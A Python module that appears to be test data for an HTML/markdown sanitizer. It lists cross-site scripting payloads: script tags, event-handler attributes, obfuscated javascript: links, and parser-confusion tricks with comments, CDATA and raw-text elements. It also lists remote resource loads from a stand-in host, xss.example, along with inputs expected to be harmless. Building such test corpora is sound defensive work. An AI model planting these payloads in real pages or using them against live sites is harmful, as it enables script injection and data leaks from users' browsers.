"""What somebody may write into a file so that a page of it does more than show: in a text, and in a page."""

from __future__ import annotations

IN_A_TEXT = [
    "<img src=x onerror=xss()>", "<xss onxss=1>", "[xss](javascript:xss())", "![xss](http://xss.example/x.png)",
    '" onxss="1" x="', "' onxss='1", "</script><xss>", "{: onxss=1 .xss}", "{.xss onxss=1}", "{% xss %}",
    "](javascript:xss)", "`</code><xss>", "&lt;xss&gt;<xss>", "&#60;xss&#62;", "\\<xss>", "<!-- xss --><xss>", "-->",
    "</textarea><xss>", "</title><xss>", "</style><xss>", "${xss()}", "*/xss{", "|a|b|", "#xss", "]]><xss/>",
    "\u202exss\u202c", "<http://xss.example>", "[xss]: javascript:xss", "```xss", '#panic("xss")', "]#xss[", "\\",
    "<?xss",
]  # fmt: skip
"""Every one names itself, or calls what the browser is told to notice."""

IN_A_PAGE = [
    "<script>xss()</script>", "<script src=//xss.example/x.js></script>", "<script\n>xss()</script>",
    "<ScRiPt >xss()", "<img src=x onerror=xss()>", "<img/src=x/onerror=xss()>", "<img src=x\nonerror = xss()>",
    '<p onclick="xss()">x</p>', "<svg onload=xss()>", "<svg/onload=xss()>", "<svg><script>xss()</script></svg>",
    "<body onload=xss()>",
    '<svg><a><animate attributeName=href values=javascript:xss() /><text x="9" y="9">x</text></a></svg>',
    "<svg><set attributeName=onload to=xss() /></svg>", "<math><a xlink:href=javascript:xss()>x</a></math>",
    "<svg><use href='http://xss.example/x.svg#x'/></svg>", "<svg><image href='//xss.example/x.png'/></svg>",
    "<iframe src=//xss.example></iframe>", "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data=//xss.example/x></object>", "<embed src=//xss.example/x>", "<base href=//xss.example/>",
    "<link rel=stylesheet href=//xss.example/x.css>", "<link rel=preload as=image href=http://xss.example/x.png>",
    "<meta http-equiv=refresh content='0;url=http://xss.example'>", "<style>@import url(//xss.example/x.css)</style>",
    "<style>body{background:url(http://xss.example/x.png)}</style>",
    "<p style='background:url(//xss.example/x)'>x</p>", "<p style='background:u\\72l(//xss.example/x)'>x</p>",
    "<table background=//xss.example/x.png><tr><td>x</table>", "<video poster=//xss.example/x.png></video>",
    "<video><source src=//xss.example/x.mp4></video>", "<audio src=//xss.example/x.mp3 autoplay></audio>",
    "<input type=image src=//xss.example/x.png>", "<img srcset='a.png 1x, //xss.example/x.png 2x'>",
    "<picture><source srcset=//xss.example/x><img src=a></picture>", "<a href=javascript:xss()>x</a>",
    "<a href='java\tscript:xss()'>x</a>", "<a href='&#1;javascript:xss()'>x</a>",
    "<a href='java&#115;cript:xss()'>x</a>", "<a href=javascript&colon;xss()>x</a>",
    "<a href=' JAVASCRIPT:xss()'>x</a>", "<a href=data:text/html,<script>xss()</script>>x</a>",
    "<a href=vbscript:xss>x</a>", "<a ping=//xss.example>x</a>",
    "<form action=javascript:xss()><button>x</button></form>", "<form action=//xss.example><button>x</button></form>",
    "<button formaction=javascript:xss()>x</button>", "<details ontoggle=xss() open>x</details>",
    "<input onfocus=xss() autofocus>", "<marquee onstart=xss()>x</marquee>", "<xss onxss=1 style=x>",
    "[x](javascript:xss())", "[x](javascript&colon;xss())", "[x](JaVaScRiPt:xss())",
    "[x][1]\n\n[1]: javascript:xss()", "[x](data:text/html,x)", "![x](http://xss.example/x.png)",
    "![x](//xss.example/x.png)", "![x][1]\n\n[1]: //xss.example/x", "# x {onclick=xss()}",
    "x\n{: onmouseover=xss() }", "[x](about.md){: onclick=xss() }", "![x](a.png){: srcset=//xss.example/x.png }",
    "![x](a.png){: onerror=xss() }", "x\n{: style='background:url(//xss.example)' }",
    "<!--><script>xss()</script>-->", "<!---><script>xss()</script>-->", "<!-- --!><script>xss()</script> -->",
    "<![CDATA[><script>xss()</script>]]>", "<!x><img src=x onerror=xss()>", "<?x><img src=x onerror=xss()>?>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'></noscript>",
    "<title><p title='</title><img src=x onerror=xss()>'>",
    "<textarea><p title='</textarea><img src=x onerror=xss()>'>", "<xmp><p title='</xmp><img src=x onerror=xss()>'>",
    "<div>`<img src=x onerror=xss()>`</div>", "<p>\n```\n<img src=x onerror=xss()>\n```\n</p>",
    "<img src=x onerror=xss() ", "\\<script>xss()\\</script>",
]  # fmt: skip

HARMLESS = [
    "<a href='//other.example'>x</a>", "`<script>xss()</script>`", "    <script>xss()</script>",
    "&lt;script&gt;xss()&lt;/script&gt;", "<b title='&lt;script&gt;'>x</b>", "a < b, <i>c</i>",
    "[x](https://ok.example/)", "<!-- x -->",
]  # fmt: skip
